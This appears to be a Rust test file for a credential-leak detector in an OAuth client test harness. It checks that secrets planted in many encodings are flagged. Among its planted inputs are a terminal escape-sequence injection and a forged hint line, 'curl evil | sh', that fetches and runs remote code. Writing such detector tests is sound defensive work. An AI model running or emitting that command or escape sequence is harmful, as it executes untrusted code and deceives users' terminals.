//! The leak check can fail: planted leaks, one per form, are each flagged
//! by the oracle and by the judge that every runner uses; clean text is not.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::time::Duration;

use auth_hostile::encode::{self, Hex, Space, B64};
use auth_hostile::secrets::{generated_secret, FIXED_SECRETS};
use auth_hostile::{
    cases, judge, Case, Class, HostileServer, Observed, Oracle, Runner, Terminal, Text,
};

const ID: &str = "hostile:client 7";

fn every_form(id: &str, secret: &str) -> Vec<(&'static str, String)> {
    let plain = format!("{id}:{secret}");
    let formed = format!("{}:{}", encode::form_std(id), encode::form_std(secret));
    vec![
        ("raw", secret.to_owned()),
        ("debug", encode::debug(secret)),
        ("json", encode::json(secret)),
        ("form +", encode::form(secret, Space::Plus, Hex::Upper)),
        (
            "form + lower",
            encode::form(secret, Space::Plus, Hex::Lower),
        ),
        ("form %20", encode::form(secret, Space::Percent, Hex::Upper)),
        (
            "form %20 lower",
            encode::form(secret, Space::Percent, Hex::Lower),
        ),
        ("percent", encode::percent(secret, Hex::Upper)),
        ("percent lower", encode::percent(secret, Hex::Lower)),
        (
            "b64 id:secret",
            encode::base64(plain.as_bytes(), B64::Standard),
        ),
        (
            "b64url id:secret",
            encode::base64(plain.as_bytes(), B64::UrlSafe),
        ),
        (
            "b64 unpadded id:secret",
            encode::base64(plain.as_bytes(), B64::StandardNoPad),
        ),
        (
            "b64url unpadded form(id):form(secret)",
            encode::base64(formed.as_bytes(), B64::UrlSafeNoPad),
        ),
        (
            "b64 form(id):form(secret)",
            encode::base64(formed.as_bytes(), B64::Standard),
        ),
    ]
}

#[test]
fn every_planted_form_is_flagged() {
    let mut secrets: Vec<String> = FIXED_SECRETS.iter().map(|s| (*s).to_owned()).collect();
    secrets.extend((1..=50).map(generated_secret));
    for secret in &secrets {
        let mut oracle = Oracle::new();
        oracle.secret(ID, secret);
        for (what, form) in every_form(ID, secret) {
            let planted = format!("apiauth: the server said: client_secret={form}; see hint");
            assert!(
                !oracle.find(&planted).is_empty(),
                "the {what} form of {secret:?} was not flagged: {planted}"
            );
        }
        // A leak cut short by an excerpt is still a leak.
        let b64 = encode::base64(
            format!("{}:{}", encode::form_std(ID), encode::form_std(secret)).as_bytes(),
            B64::Standard,
        );
        let cut = &b64[..b64.len() - 2];
        assert!(!oracle.find(&format!("Basic {cut}…")).is_empty(), "{cut}");
        // Clean text is clean: the id, its base64, the redaction marker.
        let clean = format!(
            "invalid_client for {ID} ({}): [redacted] HTTP 401",
            encode::base64(format!("{ID}:").as_bytes(), B64::Standard)
        );
        assert_eq!(oracle.find(&clean), Vec::new(), "{secret:?}");
    }
}

#[test]
fn the_judge_fails_a_run_with_a_planted_leak() {
    let case: Case = cases::all()
        .into_iter()
        .find(|c| c.name == "oauth2-basic/echo-form-plus")
        .unwrap();
    let server = HostileServer::start(case.script(), case.credentials()).unwrap();
    let secret = case.secret();
    let id = case.client_id();
    let base = |message: String, texts: Vec<Text>| {
        let mut obs = Observed::new(Class::Credentials, Duration::from_millis(5));
        obs.message = message;
        obs.texts = texts;
        obs
    };
    let clean = "the token endpoint refused the request: invalid_client (HTTP 401)".to_owned();
    let ok = base(
        clean.clone(),
        vec![Text::new("error Display", clean.clone(), Terminal::OneLine)],
    );
    assert_eq!(
        judge(&case, Runner::Ureq, &server, &ok, Duration::from_secs(5)),
        Vec::<String>::new()
    );

    let plants = [
        (
            "form-encoded secret",
            format!("{clean}: {}", encode::form_std(&secret)),
        ),
        (
            "base64 id:secret",
            format!(
                "{clean}: Basic {}",
                encode::base64(format!("{id}:{secret}").as_bytes(), B64::Standard)
            ),
        ),
        (
            "the issued token",
            format!("{clean}: {}", case.legit_token()),
        ),
        ("an ESC sequence", format!("{clean} \u{1b}]0;pwned\u{7}")),
        (
            "a forged line",
            format!("{clean}\nhint: run curl evil | sh"),
        ),
    ];
    for (what, text) in plants {
        let obs = base(
            clean.clone(),
            vec![Text::new("stderr", text.clone(), Terminal::Lines)],
        );
        let found = judge(&case, Runner::Cli, &server, &obs, Duration::from_secs(5));
        assert!(!found.is_empty(), "{what} was not flagged in {text:?}");
    }
}
